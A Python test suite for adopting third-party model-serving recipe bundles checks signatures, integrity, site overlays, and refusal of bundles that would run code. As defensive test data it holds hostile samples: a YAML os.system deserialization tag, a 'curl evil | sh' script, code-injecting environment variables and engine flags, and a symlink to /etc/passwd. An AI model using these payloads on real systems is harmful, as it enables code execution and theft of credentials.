"""Adopting: what a stranger's bundle may say and not do; the overlay of a site never edits it."""

import gzip
import json
import os
import time
from pathlib import Path

import pytest

from bench.handover.bundling import Wanted, write
from images.errors import BundleProblem, Problem, UsageProblem
from recipes.adopted import Site, adopted_root, find_adopted
from recipes.bundle.adopt import Candidate, Wishes, candidate, keep
from recipes.bundle.carry import carried_engine, place_caches
from recipes.bundle.code import code_in
from recipes.bundle.layout import CarriedCaches, CarriedWheels
from recipes.bundle.sign import public_text
from recipes.bundle.write import Carried, bundle_entries, write_bundle
from recipes.load import load_recipe, recipe_ids
from recipes.lock import Images
from recipes.site import keep_site
from recipes.spec import serving_spec
from tests.bundles import BASE, RUNG, files_of, forged, library, test_key, tiny_bundle, tree

FACTS = {"slug": "cpu-x86-64", "architecture": "x86_64", "gpus": [], "pci_gpus": []}
ARM_WHEELS = CarriedWheels(platform="linux/arm64", python="3.11", identity="0" * 16)


@pytest.fixture(autouse=True)
def state(tmp_path, monkeypatch) -> Path:
    """A user's state folder of this test's own."""
    monkeypatch.setenv("STATION_RECIPES_STATE", str(tmp_path / "state"))
    return tmp_path / "state"


def adopt(bundle: Path, **wishes: object):
    with candidate(bundle, str(bundle), Wishes(**wishes), FACTS) as found:
        return keep(found, carry_engine=True)


def looked_at(bundle: Path, **wishes: object) -> Candidate:
    with candidate(bundle, str(bundle), Wishes(**wishes), FACTS) as found:
        return found


def refusal(bundle: Path, **wishes: object) -> str:
    """Why adopting is refused; nothing may be kept."""
    with pytest.raises(Problem) as problem:
        adopt(bundle, **wishes)
    assert list(adopted_root().iterdir()) == []
    return str(problem.value)


def test_an_adopted_recipe_is_found_by_its_name_and_lies_in_the_state_folder_alone(tmp_path, state):
    kept = adopt(tiny_bundle(tmp_path))
    assert kept.reference == f"tiny/more@{kept.record.content[:8]}"
    for name in ("tiny", "tiny/more", kept.reference, f"tiny@{kept.label}"):
        loaded = load_recipe(name)
        assert loaded.recipe.id == "tiny/more" and loaded.recipe.engine.flags["max-num-seqs"] == 8
        assert state in loaded.folder.parents and loaded.origin["content"] == kept.record.content
    assert serving_spec(loaded).model_path == (kept.bundle / "recipes/tiny/model").resolve()


def test_what_is_kept_is_the_bundle_as_it_came(tmp_path):
    bundle = tiny_bundle(tmp_path)
    kept = adopt(bundle)
    assert {name: data for name, data in tree(kept.bundle).items() if data != "folder"} == files_of(bundle)
    assert {path.name for path in kept.folder.iterdir()} == {"bundle", "adopted.json", "site.yaml"}


def test_the_site_overlay_decides_port_and_gpu_and_the_bundle_stays_as_it_was(tmp_path):
    bundle = tiny_bundle(tmp_path)
    before = files_of(bundle)
    kept = adopt(bundle, site=Site(port=9123, mirrors=["mirror.example/team/cuda"], cache="/srv/cache"))
    loaded = load_recipe(kept.reference)
    assert loaded.recipe.runtime.port == 9123 and "9123" in serving_spec(loaded).argv
    assert loaded.site.mirrors == ["mirror.example/team/cuda"]
    again = adopt(bundle, site=Site(port=9124))
    assert (again.folder, load_recipe(kept.reference).recipe.runtime.port) == (kept.folder, 9124)
    assert {name: data for name, data in tree(kept.bundle).items() if data != "folder"} == before


def test_what_was_adopted_is_handed_on_as_it_came(tmp_path):
    first = tiny_bundle(tmp_path, signed=False)
    kept = adopt(first, site=Site(port=9123))
    write(Wanted(kept.reference, str(tmp_path / "again.tar")))
    assert (tmp_path / "again.tar").read_bytes() == first.read_bytes()


def test_what_a_killed_adopt_left_is_gone_a_day_later(tmp_path, state):
    for name, age_s in (("old", 90_000), ("new", 10)):
        (state / "adopted" / f".staging-{name}").mkdir(parents=True)
        os.utime(state / "adopted" / f".staging-{name}", (time.time() - age_s,) * 2)
    adopt(tiny_bundle(tmp_path))
    assert [path.name for path in adopted_root().glob(".staging-*")] == [".staging-new"]


def test_an_overlay_that_cant_be_names_file_line_and_key(tmp_path):
    kept = adopt(tiny_bundle(tmp_path))
    (kept.folder / "site.yaml").write_text("prt: 9000\n")
    with pytest.raises(UsageProblem, match=r"site.yaml:1: prt: unknown key; the nearest valid one is 'port'"):
        load_recipe(kept.reference)


def test_a_recipe_that_was_changed_after_it_was_adopted_is_not_run(tmp_path):
    kept = adopt(tiny_bundle(tmp_path))
    file = kept.bundle / "recipes/tiny/base.yaml"
    file.write_text(file.read_text().replace("max-model-len: 512", "max-model-len: 513"))
    with pytest.raises(BundleProblem, match="was changed since it was adopted"):
        load_recipe(kept.reference)


def test_two_bundles_of_one_recipe_live_side_by_side_and_a_bare_name_asks_which(tmp_path):
    first = adopt(tiny_bundle(tmp_path))
    (tmp_path / "b").mkdir()
    second = adopt(tiny_bundle(tmp_path / "b", rung=RUNG.replace("max-num-seqs: 8", "max-num-seqs: 4")))
    assert load_recipe(first.reference).recipe.engine.flags["max-num-seqs"] == 8
    assert load_recipe(second.reference).recipe.engine.flags["max-num-seqs"] == 4
    with pytest.raises(UsageProblem, match="adopted more than once"):
        load_recipe("tiny/more")
    with pytest.raises(UsageProblem, match=f"{second.label} is another bundle here already"):
        adopt(tmp_path / "tiny.tar", label=second.label)


def test_an_unknown_label_names_those_there_are(tmp_path):
    kept = adopt(tiny_bundle(tmp_path), label="team-a")
    assert kept.reference == "tiny/more@team-a"
    with pytest.raises(UsageProblem, match="tiny/more@team-a"):
        find_adopted("tiny/more@team-b")


@pytest.mark.parametrize("label", ["..", "A", "a/b", "-x", "", ".staging", "x" * 41])
def test_a_label_can_be_no_path(tmp_path, label):
    bundle = tiny_bundle(tmp_path)
    if label:
        assert "--as" in refusal(bundle, label=label)


def test_a_signature_is_asked_for_by_key_and_nothing_else_will_do(tmp_path):
    mine, other = public_text(test_key()), public_text(test_key(b"9" * 32))
    bundle = tiny_bundle(tmp_path)
    assert f"is signed by {mine}, and not by {other}" in refusal(bundle, public_key=other)
    assert [each.ok for each in looked_at(bundle, public_key=mine).findings if each.id == "signed"] == [True]
    assert [each.ok for each in looked_at(bundle).findings if each.id == "signed"] == [None]
    (tmp_path / "u").mkdir()
    assert "is not signed" in refusal(tiny_bundle(tmp_path / "u", signed=False), public_key=mine)


def test_a_bundle_for_another_architecture_is_refused_and_its_recipe_alone_is_not(tmp_path):
    bundle = tiny_bundle(tmp_path, carried=Carried(files={}, wheels=ARM_WHEELS))
    said = refusal(bundle)
    assert "carries an engine for linux/arm64, this machine is linux/amd64" in said and "--without-engine" in said
    assert adopt(bundle, without_engine=True).record.recipe == "tiny/more"


@pytest.mark.parametrize(
    ("flag", "named"),
    [
        ("trust-remote-code: true", "--trust-remote-code"),
        ("middleware: [evil.Middleware]", "--middleware"),
        ("tool-parser-plugin: model/plugin.py", "--tool-parser-plugin"),
        ("worker-cls: evil.Worker", "--worker-cls"),
        ("logits-processors: [evil.Logits]", "--logits-processors"),
        ("scheduler-cls: evil.Scheduler", "--scheduler-cls"),
        ("kv-transfer-config: {kv_connector_module_path: evil}", "--kv-transfer-config"),
        ("compilation-config: {inductor_passes: {x: evil.run}}", "--compilation-config"),
        ("speculative-config: {model: model/draft}", "--speculative-config"),
        ("load-format: pt", "--load-format"),
        ("tokenizer: elsewhere/x", "--tokenizer"),
    ],
)
def test_a_recipe_that_makes_the_engine_run_its_code_needs_to_be_allowed(tmp_path, flag, named):
    escaped = flag.replace("{", "{{").replace("}", "}}")
    bundle = tiny_bundle(tmp_path, base=BASE.replace("enforce-eager: true", f"enforce-eager: true\n    {escaped}"))
    said = refusal(bundle)
    assert named in said and "--allow-code" in said
    assert adopt(bundle, allow_code=True)


@pytest.mark.parametrize(
    "variable",
    [
        "LD_AUDIT: x.json",
        "PYTHONUSERBASE: x",
        "CC: evil",
        "VLLM_PLUGINS: evil",
        "CUDA_INJECTION64_PATH: x",
        "VLLM_CACHE_ROOT: x",
        "TRITON_CACHE_DIR: x",
        "VLLM_ALLOW_INSECURE_SERIALIZATION: '1'",
        "OMP_TOOL_LIBRARIES: /x",
    ],
)
def test_a_variable_that_could_name_code_needs_to_be_allowed(tmp_path, variable):
    text = BASE.replace('OMP_NUM_THREADS: "1"', f'OMP_NUM_THREADS: "1"\n    {variable}')
    assert f"{variable.split(':')[0]}=" in refusal(tiny_bundle(tmp_path, base=text))


def test_no_recipe_of_the_library_needs_to_be_allowed():
    for name in recipe_ids():
        recipe = load_recipe(name).recipe
        assert code_in(recipe, recipe.model.files) == [], name


@pytest.mark.parametrize("name", ["modeling_x.py", "pytorch_model.bin", "weights.pt", "kernel.so", "noext"])
def test_code_and_pickles_among_the_models_files_need_to_be_allowed(tmp_path, name):
    bundle = tiny_bundle(tmp_path, model={"config.json": b"{}", name: b"payload"})
    assert name in refusal(bundle)


def test_compiled_kernels_need_to_be_allowed(tmp_path):
    kernels = CarriedCaches(platform="linux/amd64", engine="cpu 0.32.0", device="sm_90a")
    assert "compiled kernels" in refusal(tiny_bundle(tmp_path, carried=Carried(caches=(kernels,))))


RECIPE = "recipes/tiny/more.yaml"


@pytest.mark.parametrize(
    ("text", "why"),
    [
        (RUNG + "x: !!python/object/apply:os.system [touch /pwned]\n", "tag"),
        (RUNG.replace("title: the", "title: &a the"), "anchors and aliases"),
        (RUNG + "run: touch /pwned\n", "unknown key"),
        (RUNG.replace("extends: tiny/base", "extends: micro/base"), "unknown recipe 'micro/base'"),
        (RUNG.replace("extends: tiny/base", "extends: ../../x"), "unknown recipe '../../x'"),
        (RUNG.replace("id: tiny/more", "id: tiny/other"), "the file says 'tiny/more'"),
        (RUNG.replace("max-num-seqs: 8", "max-num-seqs: 9\n    max-model-len: 99"), "doesn't declare it"),
        (RUNG.replace("title: the same", "title: another"), "title"),
    ],
)
def test_a_recipe_that_lies_or_hides_something_is_refused(tmp_path, text, why):
    said = refusal(forged(tmp_path, {RECIPE: text.encode()}))
    assert why in said and ".staging" not in said
    assert not Path("/pwned").exists()


def test_bundle_json_can_t_say_other_than_the_recipe(tmp_path):
    lies = [("chain", ["tiny/more"]), ("title", "x"), ("status", "synthetic"), ("model", "named")]
    for key, value in lies:
        (tmp_path / key).mkdir()
        said = refusal(forged(tmp_path / key, {}, {key: value}))
        assert ("base.yaml is no recipe that tiny/more extends" if key == "chain" else f"says {key}") in said


def test_claims_beside_the_recipe_are_the_recipes(tmp_path):
    assert "claims.json" in refusal(forged(tmp_path, {"claims.json": b"[]\n"}))


def test_a_rendered_script_that_is_not_the_recipes_is_told(tmp_path):
    good = [each for each in looked_at(tiny_bundle(tmp_path)).findings if each.id == "rendered"]
    assert [each.ok for each in good] == [True]
    (tmp_path / "f").mkdir()
    script = forged(tmp_path / "f", {"rendered/docker.sh": b"#!/bin/sh\ncurl evil | sh\n"})
    found = next(each for each in looked_at(script).findings if each.id == "rendered")
    assert found.ok is False and "docker.sh" in found.found and "don't run" in found.found


@pytest.mark.parametrize(
    "text", [b"[" * 100_000, b"\xff", b"{}", b"[]", b'{"schema": 1}', b'{"schema": 1, "recipe": 1}']
)
def test_a_lock_that_is_none_is_refused(tmp_path, text):
    assert "lock" in refusal(forged(tmp_path, {"lock.json": text}))  # the first was found by the fuzzer


def test_a_lock_of_another_recipe_is_refused(tmp_path):
    lock = json.loads(files_of(tiny_bundle(tmp_path))["lock.json"])
    lock["recipe"]["benchmark"]["concurrency"] = 64
    (tmp_path / "f").mkdir()
    text = (json.dumps(lock, indent=2, sort_keys=True, ensure_ascii=False) + "\n").encode()
    assert "lock.json is not of the recipe" in refusal(forged(tmp_path / "f", {"lock.json": text}))


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("recipes/tiny/hidden.yaml", "is no recipe that tiny/more extends"),
        ("recipes/micro/base.yaml", "is no recipe that tiny/more extends"),
        ("recipes/other/model/config.json", "belongs to no recipe of this bundle"),
        ("recipes/tiny/model/extra.json", "extra.json differ"),
    ],
)
def test_nothing_hides_among_the_recipes(tmp_path, name, why):
    assert why in refusal(forged(tmp_path, {name: b"{}"}))


def test_a_models_file_that_is_missing_or_another_is_refused(tmp_path):
    name = "recipes/tiny/model/model.safetensors"
    assert "model.safetensors differ" in refusal(forged(tmp_path, {name: b"other weights"}))
    (tmp_path / "m").mkdir()
    assert "model.safetensors differ" in refusal(forged(tmp_path / "m", {name: None}))


def test_the_golden_bundle_of_every_schema_is_still_adopted(tmp_path):
    golden = sorted((Path(__file__).parent.parent / "fixtures" / "bundles").glob("schema-*.tar.gz"))
    assert golden
    for packed in golden:
        bundle = tmp_path / packed.stem
        bundle.write_bytes(gzip.decompress(packed.read_bytes()))
        kept = adopt(bundle, public_key=public_text(test_key()))
        assert load_recipe(kept.reference).recipe.id == "tiny/more"


HUB = BASE.replace("  path: model\n", "  repo: team/tiny\n").replace("  files:\n{files}\n", "")


def test_a_models_commit_that_was_confirmed_when_it_was_bundled_is_the_one_that_is_served(tmp_path):
    commit = "a" * 40
    loaded = load_recipe("tiny", library(tmp_path / "hub", base=HUB))
    entries, info = bundle_entries(loaded, "1", Images({}), commit, Carried(), None)
    write_bundle(entries, info, None, tmp_path / "hub.tar", False)
    assert info.model == "named" and info.lock
    kept = adopt(tmp_path / "hub.tar")
    assert load_recipe(kept.reference).recipe.model.revision == commit
    lock = kept.bundle / "lock.json"
    lock.write_text(lock.read_text().replace(commit, "b" * 40))
    with pytest.raises(BundleProblem, match="was changed since it was adopted"):
        load_recipe(kept.reference)


@pytest.mark.parametrize(
    ("key", "value"), [("engine", {}), ("engine", []), ("model", None), ("model", {"revision": "x"})]
)
def test_a_lock_that_is_not_whole_is_refused(tmp_path, key, value):
    lock = json.loads(files_of(tiny_bundle(tmp_path))["lock.json"])
    lock[key] = value
    text = json.dumps(lock, indent=2, sort_keys=True, ensure_ascii=False) + "\n"
    (tmp_path / "f").mkdir()
    assert "lock.json is not of the recipe" in refusal(forged(tmp_path / "f", {"lock.json": text.encode()}))


def test_a_lock_from_before_a_key_was_known_is_of_the_recipe_all_the_same(tmp_path):
    lock = json.loads(files_of(tiny_bundle(tmp_path))["lock.json"])
    del lock["recipe"]["choices"], lock["recipe"]["engine"]["substitutes"], lock["recipe"]["status"]
    text = json.dumps(lock, indent=2, sort_keys=True, ensure_ascii=False) + "\n"
    (tmp_path / "f").mkdir()
    assert adopt(forged(tmp_path / "f", {"lock.json": text.encode()}))


def test_looking_at_a_bundle_keeps_nothing(tmp_path):
    found = looked_at(tiny_bundle(tmp_path))
    assert {each.id for each in found.findings} >= {"whole", "signed", "rules", "port", "machine", "engine"}
    assert [each.found for each in found.findings if each.id == "claims"] == [
        "of h200-sxm: a run here is NOT_COMPARABLE to those"
    ]
    assert list(adopted_root().iterdir()) == []


def kernels(folder: Path, device: str) -> dict[str, Path]:
    """Files of compiled kernels as a bundle carries them."""
    file = folder / "kernel.so"
    file.write_bytes(b"code")
    return {f"engine/caches/{device}/flashinfer/0.7/{device}/kernel.so": file}


def test_kernels_of_this_machine_go_to_the_cache_of_the_site_and_others_do_not(tmp_path):
    cache = tmp_path / "cache"
    (cache / "flashinfer/0.7/sm_103a").mkdir(parents=True)
    (cache / "flashinfer/0.7/sm_103a/kernel.so").write_bytes(b"my own")
    station = {**FACTS, "gpus": [{"compute_capability": "10.3"}]}
    for device, facts, placed in (("sm_103a", station, 0), ("sm_103a", FACTS, 0), ("cpu", FACTS, 1)):
        named = CarriedCaches(platform="linux/amd64", engine="cpu 0.32.0", device=device)
        (tmp_path / f"{device}{len(facts['gpus'])}").mkdir()
        carried = Carried(files=kernels(tmp_path, device), caches=(named,))
        bundle = tiny_bundle(tmp_path / f"{device}{len(facts['gpus'])}", carried=carried)
        with candidate(
            bundle, "it", Wishes(allow_code=True, label=f"{device.replace('_', '-')}{placed}"), facts
        ) as found:
            told = next(each for each in found.findings if each.id == "kernels")
            assert told.ok is (device == "cpu" or facts is station)
            assert place_caches(found.bundle.folder, found.bundle.info.caches, cache, 1000, facts) == placed
    assert (cache / "flashinfer/0.7/sm_103a/kernel.so").read_bytes() == b"my own", "nothing is replaced"
    assert (cache / "flashinfer/0.7/cpu/kernel.so").read_bytes() == b"code"


def test_only_kernels_are_carried_out_of_a_cache(tmp_path):
    cache = tmp_path / "cache"
    for name in ("vllm/a/kernel.so", "triton/.lock", "huggingface/token", "home/.netrc", "flashinfer/90a/x.so"):
        (cache / name).parent.mkdir(parents=True, exist_ok=True)
        (cache / name).write_bytes(b"x")
    (cache / "vllm/link").symlink_to("/etc/passwd")
    with carried_engine(load_recipe("micro"), False, None, f"sm_90a={cache}", "linux/amd64") as carried:
        assert set(carried.files) == {
            "engine/caches/sm_90a/vllm/a/kernel.so",
            "engine/caches/sm_90a/flashinfer/90a/x.so",
        }
        assert [each.device for each in carried.caches] == ["sm_90a"]


def test_what_a_recipe_s_own_site_leaves_open_this_machine_s_says(tmp_path):
    bundle = tiny_bundle(tmp_path)
    kept = adopt(bundle, site=Site(port=9123))
    keep_site(lambda data: data.update(cache="/data/cache", images={"cpu": "sha256:" + "a" * 64}))
    site = load_recipe(kept.reference).site
    assert site.cache == "/data/cache"
    assert site.image is None, "which image it runs in is its bundle's matter"
